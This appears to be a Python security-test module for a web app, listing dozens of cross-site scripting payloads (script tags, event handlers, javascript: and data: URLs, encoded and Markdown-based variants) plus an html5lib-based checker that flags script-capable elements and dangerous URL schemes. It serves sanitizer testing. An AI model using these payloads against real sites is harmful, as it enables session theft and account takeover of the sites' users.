"""
Cross-site scripting payloads, and a checker that parses HTML the way a browser would.

The payloads go in through every Markdown field and every comment; the checker
then reads the rendered page with html5lib (the HTML5 parsing algorithm, so
malformed markup is read as a browser reads it) and reports anything that
could run script: script-capable elements, event-handler attributes, and
URLs with a script or data scheme.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable

import html5lib

PAYLOADS: tuple[str, ...] = (
    # Raw tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" onmouseover=alert(1)>x</a>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<style>@import 'https://xss.example/x.css';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    '<td align="left" onclick=alert(1)>x</td>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    # Markdown syntax
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![image](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org "title" onclick="alert(1)")',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "> <svg/onload=alert(1)>",
    "* <a href=javascript:alert(1)>x</a>",
    "**<img src=x onerror=alert(1)>**",
)

SCRIPT_ELEMENTS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
        "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
        "template", "noscript", "img", "video", "audio", "source", "details", "marquee", "body",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "background", "xlink:href", "poster"}
)
_DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_IGNORED_IN_URL = re.compile(r"[\x00-\x20]")


def dangers(fragment: str, *, allowed_elements: Iterable[str] = ()) -> list[str]:
    """Everything in ``fragment`` that could run script or load a hostile document."""
    found: list[str] = []
    allowed = set(allowed_elements)
    document = html5lib.parseFragment(fragment, namespaceHTMLElements=False)
    for element in document.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        name = tag.rsplit("}", 1)[-1].lower()
        if name in SCRIPT_ELEMENTS and name not in allowed:
            found.append(f"<{name}> element")
        for attribute, value in element.attrib.items():
            attribute_name = attribute.rsplit("}", 1)[-1].lower()
            if attribute_name.startswith("on"):
                found.append(f"{attribute_name} attribute on <{name}>")
            if attribute_name == "style":
                found.append(f"style attribute on <{name}>")
            if attribute_name in URL_ATTRIBUTES or attribute_name == "srcdoc":
                url = _IGNORED_IN_URL.sub("", html.unescape(value))
                if attribute_name == "srcdoc" or _DANGEROUS_SCHEME.match(url):
                    found.append(f"{attribute_name}={value!r} on <{name}>")
    return found
